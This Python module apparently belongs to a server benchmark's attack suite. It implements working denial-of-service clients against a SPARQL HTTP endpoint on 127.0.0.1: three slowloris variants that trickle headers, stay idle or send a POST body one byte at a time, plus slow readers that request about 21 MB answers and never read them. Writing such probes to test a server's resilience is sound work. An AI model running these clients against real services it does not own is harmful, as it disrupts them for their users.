"""Clients that send or read slowly: slowloris three ways, and readers that never read.

Each is a :class:`~bench.attacks.probes.Load`: started, left to run while the probes ask, then
stopped, and able to say what it sent.
"""

from __future__ import annotations

import itertools
import socket
import threading
import time
from contextlib import suppress

from bench.attacks.queries import JSON, big_query, fresh, sparql
from bench.attacks.raw_http import Reply, parse, request
from bench.attacks.target import Target

TRICKLE_EVERY = 2.0
CONNECT_TIMEOUT = 5.0
#: Bytes a slowloris POST announces (within max_request_bytes, so it is not refused at once).
SLOW_BODY = 100_000

#: What each way of slowloris sends when it connects.
OPENINGS = {
    "headers": "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n",
    "idle": "",
    "body": "POST /sparql HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: "
    f"application/x-www-form-urlencoded\r\nContent-Length: {SLOW_BODY}\r\n\r\nquery=",
}


class Trickle:
    """``count`` connections that send a request a piece every :data:`TRICKLE_EVERY` s (``idle``
    ones send nothing), each reopened when the server answers or closes it."""

    def __init__(self, target: Target, count: int, way: str) -> None:
        self.target, self.count, self.way = target, count, way
        self.sockets: list[socket.socket | None] = []
        self.closed = self.failed = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._loop)

    def start(self) -> None:
        self.sockets = [self._open() for _ in range(self.count)]
        self._thread.start()

    def stop(self) -> None:
        self._stop.set()
        self._thread.join()
        for sock in self.sockets:
            if sock is not None:
                sock.close()

    def sent(self) -> str:
        what = {
            "headers": "each a header line every 2 s",
            "idle": "each sending nothing",
            "body": f"each a POST /sparql body of {SLOW_BODY:,} bytes, one byte every 2 s",
        }[self.way]
        return (f"{self.count} connections, {what} (the server closed {self.closed}; "
                f"{self.failed} could not connect)")  # fmt: skip

    def _open(self) -> socket.socket | None:
        try:
            sock = socket.create_connection(self.target.address, timeout=CONNECT_TIMEOUT)
            sock.sendall(OPENINGS[self.way].encode())
            sock.setblocking(False)
            return sock
        except OSError:
            self.failed += 1
            return None

    def _loop(self) -> None:
        for n in itertools.count():
            if self._stop.wait(TRICKLE_EVERY):
                return
            piece = {"headers": f"X-Pad-{n}: {n}\r\n", "idle": "", "body": "a"}[self.way]
            for i, sock in enumerate(self.sockets):
                if sock is not None and _open_and_silent(sock) and _send(sock, piece):
                    continue
                if sock is not None:
                    self.closed += 1
                    sock.close()
                self.sockets[i] = self._open()


def _send(sock: socket.socket, piece: str) -> bool:
    """Send a few bytes without waiting; False if the connection is gone."""
    try:
        sock.send(piece.encode())
    except BlockingIOError:  # its buffer is full: still open, and still slow
        return True
    except OSError:
        return False
    return True


def _open_and_silent(sock: socket.socket) -> bool:
    """Whether the server has neither answered nor closed the connection."""
    try:
        sock.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT)
    except BlockingIOError:
        return True
    except OSError:
        return False
    return False


class SlowReaders:
    """``count`` connections, each asking for a different ~21 MB answer and reading only its
    header; one refused (503, no free slot) asks again until ``count`` answers are held."""

    def __init__(self, target: Target, count: int) -> None:
        self.target, self.count = target, count
        self.held = self.refused = self.cut = 0
        self.size = ""
        self._stop = threading.Event()
        self._changed = threading.Condition()
        self._threads = [threading.Thread(target=self._read) for _ in range(count)]

    def start(self) -> None:
        whole = self.target.get(sparql(big_query(fresh())), {"Accept": JSON}, 60)
        self.size = (
            f"{len(whole.body) / 1e6:.1f} MB" if whole.status == 200 else f"large ({whole.status})"
        )
        for thread in self._threads:
            thread.start()
        with self._changed:
            self._changed.wait_for(lambda: self.held == self.count, timeout=30)

    def stop(self) -> None:
        self._stop.set()
        for thread in self._threads:
            thread.join()

    def sent(self) -> str:
        return (f"{self.count} connections, each asking for a different {self.size} answer and "
                f"reading none of it ({self.held} answers held, the server cut off {self.cut}; "
                f"{self.refused} refused, asked again)")  # fmt: skip

    def _read(self) -> None:
        while not self._stop.is_set():
            query = big_query(fresh())
            sock = socket.socket()
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            with sock:
                head = _head(sock, self.target.address, request(sparql(query), {"Accept": JSON}))
                if head.status == 200:
                    self._count(held=1)
                    self._stop.wait()
                    self._count(cut=int(_cut_off(sock)))
                    return
                self._count(refused=1)
            self._stop.wait(0.5)

    def _count(self, held: int = 0, refused: int = 0, cut: int = 0) -> None:
        with self._changed:
            self.held += held
            self.refused += refused
            self.cut += cut
            self._changed.notify_all()


def _head(sock: socket.socket, address: tuple[str, int], data: bytes) -> Reply:
    """Send ``data`` and read the answer's status line and headers only."""
    received = b""
    with suppress(OSError):
        sock.settimeout(30)
        sock.connect(address)
        sock.sendall(data)
        while b"\r\n\r\n" not in received and len(received) < 8192:
            chunk = sock.recv(min(512, 8192 - len(received)))
            if not chunk:
                break
            received += chunk
    return parse(received.split(b"\r\n\r\n", 1)[0] + b"\r\n\r\n", 0)


def _cut_off(sock: socket.socket, within: float = 5.0) -> bool:
    """Whether the server closed the connection before the end of its (chunked) answer.

    Reads what the server still sends: a connection cut off ends early; one still open ends
    with the answer's last chunk, or goes quiet, or is still sending after ``within`` seconds.
    """
    deadline = time.monotonic() + within
    tail = b""
    sock.settimeout(0.5)
    while time.monotonic() < deadline:
        try:
            chunk = sock.recv(1 << 16)
        except TimeoutError:
            return False
        except OSError:
            return True
        if not chunk:
            return not tail.endswith(b"0\r\n\r\n")
        tail = (tail + chunk)[-16:]
    return False
